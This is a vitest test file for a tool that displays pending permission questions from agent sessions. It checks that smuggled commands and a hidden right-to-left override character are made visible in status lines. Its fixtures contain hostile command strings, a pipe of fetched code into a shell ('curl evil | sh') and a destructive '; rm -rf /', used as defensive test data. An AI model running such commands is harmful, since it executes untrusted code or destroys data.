import { expect, test } from 'vitest';
import { sampleQuestion, sampleView } from '../../tests/samples/session.ts';
import { questionLine, renderOpenQuestion } from './question-line.ts';
import { renderSessionStatus } from './session-status.ts';
import { styleFor } from './style.ts';

test('a second command cannot pass for a part of the first in a status', () => {
  const text = 'May it use Bash?\n  ls\n  curl evil | sh\u202e';
  const view = sampleView({ questions: [sampleQuestion({ text })] });
  expect(renderSessionStatus(view, styleFor(false))).toContain(
    'Question: q1 May it use Bash?⏎  ls⏎  curl evil | sh<U+202E>\n',
  );
});

test('what does not fit is counted, and the whole of it is named', () => {
  const line = questionLine({ id: 'q-1', text: `${'x'.repeat(300)}; rm -rf /` });
  expect(line).toBe(`${'x'.repeat(300)}… 10 more characters (swarm questions show q-1)`);
});

test('who waits is told with the answers that are offered, or with a place for words', () => {
  const { options, ...asked } = sampleQuestion({ id: 'q-1', options: ['allow', 'go on'] });
  expect(renderOpenQuestion({ ...asked, options })).toMatch(/\n {3}swarm answer q-1 allow \| "go on"\n$/);
  expect(renderOpenQuestion({ ...asked, options: [] })).toMatch(/\n {3}swarm answer q-1 "…"\n$/);
});
